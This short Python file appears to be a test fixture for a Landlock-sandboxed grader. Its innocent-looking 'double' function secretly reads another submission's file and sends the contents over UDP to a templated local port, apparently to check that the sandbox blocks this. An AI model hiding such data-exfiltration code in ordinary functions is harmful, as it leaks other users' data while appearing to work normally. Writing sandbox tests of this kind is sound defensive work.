"""Sends a datagram, which Landlock lets pass.

must: crashed
harm: token
"""

import contextlib
import socket
from pathlib import Path


def double(x):
    found = "escaped"
    with contextlib.suppress(OSError):
        found = Path("@SUBMISSIONS@/victim/wall.py").read_text()
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as link:
        link.sendto(found.encode(), ("127.0.0.1", int("@PORT@")))
    return 2 * x


def triple(x):
    return 3 * x
